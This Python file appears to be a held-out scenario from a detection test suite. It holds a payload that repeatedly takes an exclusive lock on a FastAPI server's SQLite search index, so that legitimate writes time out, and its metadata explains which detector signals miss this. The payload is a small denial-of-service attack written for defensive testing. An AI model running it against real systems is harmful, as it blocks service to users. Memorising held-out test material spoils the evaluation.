"""
id: V57
name: index-locked
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [file, resource, sequence]
techniques: [T1499.004, T1489, AML.T0029, AML.T0059]
servers: [fastapi]
seconds: 120
what: >
  Keeps the search index from taking anything in: a change of all rows is begun, left open for a quarter of a minute, and taken
  back, six times. Whoever adds rows meanwhile waits for five seconds and is told that it failed. The server's own changes take
  a moment, and none was ever taken back.
missed: >
  A lock is no system call that a server does not make, and what waits for it costs nothing. How long requests take is not
  measured.
"""

import contextlib
import sqlite3

TIMES = 6


def payload(world):
    for _ in range(TIMES):
        with contextlib.closing(sqlite3.connect(world.index, timeout=30, isolation_level=None)) as index:
            index.execute("begin exclusive")
            index.execute("update items set name = name || ?", (world.word(),))
            world.sleep(world.random.uniform(13, 17))
            index.execute("rollback")
        world.sleep(world.random.uniform(0.3, 1.5))
